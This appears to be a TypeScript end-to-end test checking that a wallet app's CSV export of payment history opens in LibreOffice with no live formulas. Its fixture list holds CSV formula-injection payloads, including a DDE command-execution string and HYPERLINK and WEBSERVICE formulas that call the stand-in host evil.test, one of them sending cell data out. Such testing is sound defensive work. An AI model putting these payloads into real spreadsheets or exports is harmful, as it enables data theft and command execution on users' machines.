import { jsonOf } from '../../lib/export/history-json.ts'
import type { ExportRow } from '../../lib/export/row.ts'
import { sampleRow, sampleWallet } from '../../lib/export/sample-row.ts'
import { recordsOf } from '../harness/csv.ts'
import { openInOffice } from '../harness/office.ts'
import { expect, test } from '../harness/test.ts'
import { openHistory } from '../screens/history.ts'
import { buyOfEach } from '../screens/purchases.ts'

test.skip(!process.env.TUPPENCE_LONG, 'opens LibreOffice: npm run test:long')
test.setTimeout(300_000)

/** What somebody may call a page to have a spreadsheet run it. */
const texts = [
  ...['=1+1', '+1', '-1', '@SUM(1+1)', '＝1+1', '−1', '\t=1+1', '\r\n=1+1'],
  ...['=HYPERLINK("http://evil.test","Pay")', "=cmd|'/C calc'!A0", '"=1+1'],
  ...["'=1+1", "''=1+1", ' =1+1', 'a;=1+1', 'a|=1+1', 'a\t=1+1', 'a\n=1+1'],
  ...['a","=1+1', '\uFEFF=1+1', '\u00A0=1+1', '\u200B=1+1', '{=1+1}', '1E5'],
  ...['=WEBSERVICE("http://evil.test/"&A1)', '0x10', '1/2', 'TRUE', '12:30'],
  ...['=DDE("soffice","x","y")', '"";=1+1', 'a;\'"=1+1', 'naïve – 😀 ‏א', ''],
]

/** Payments with such a text wherever others choose what stands there. */
const hostile: ExportRow[] = texts.map((text, n) => {
  const { receipt, ...row } = sampleRow({ id: `hostile-${n}` })
  const signed = {
    verdict: 'false',
    format: 'jws',
    signer: text,
    because: text,
    raw: text,
  } as const
  return {
    ...row,
    site: text,
    seller: text,
    method: text,
    url: text,
    title: text,
    code: text,
    createdAtMs: 1_790_000_000_000 + n,
    receipt: receipt && {
      ...receipt,
      network: text,
      payer: text,
      amount: text,
      error: text,
      raw: text,
    },
    signed: { offer: signed, receipt: signed },
    decidedBy: { kind: 'rule', ruleId: text },
  }
})

test('LibreOffice finds the same rows in an export, and no formula', async ({
  bed,
  page,
  wallet,
  loaded,
  reader,
}) => {
  // What it does of itself to a table nobody made harmless.
  const bare = await openInOffice(
    '"=1+1",=SUM(1;1),"=HYPERLINK(""a"")"\r\n',
    'fods',
  )
  expect(formulasOf(bare)).toHaveLength(3)

  await buyOfEach({ bed, page, wallet, reader })
  const history = await openHistory(loaded)
  const head = { exportedAt: '2026-11-21T08:00:00.000Z', wallet: sampleWallet }
  await history.import([...jsonOf(head, hostile)].join(''))
  const count = texts.length + 6
  await expect(history.totals).toContainText(`${count} payments`)
  const { text } = await history.export('csv')
  const records = recordsOf(text)
  expect(records).toHaveLength(count + 1)

  // As it comes up by itself, and for those who divide cells otherwise.
  for (const separator of [',', ';', '\t', '|']) {
    const opened = await openInOffice(text, 'fods', { separator })
    expect(formulasOf(opened), JSON.stringify(separator)).toEqual([])
    expect(opened).not.toContain('xlink:href')
  }

  // With every column as text, each cell is what it was.
  const asText = await openInOffice(text, 'csv', {
    textColumns: records[0]?.length ?? 0,
  })
  expect(recordsOf(asText, '\n').map(withoutBreaks)).toEqual(
    records.map(withoutBreaks),
  )

  // And by itself it takes numbers for numbers, and no text for one.
  const byItself = recordsOf(await openInOffice(text, 'csv'), '\n')
  const names = records[0] ?? []
  const column = (of: string[][], name: string) =>
    of.slice(1).map((record) => record[names.indexOf(name)])
  for (const name of ['time', 'amount', 'usd', 'nonce', 'pay_to', 'status'])
    expect(column(byItself, name), name).toEqual(column(records, name))
})

/** What the document runs. */
function formulasOf(fods: string): string[] {
  return fods.match(/table:formula="[^"]*"/g) ?? []
}

/** A document has one kind of line break. */
function withoutBreaks(record: readonly string[]): string[] {
  return record.map((cell) => cell.replace(/\r\n?/g, '\n'))
}
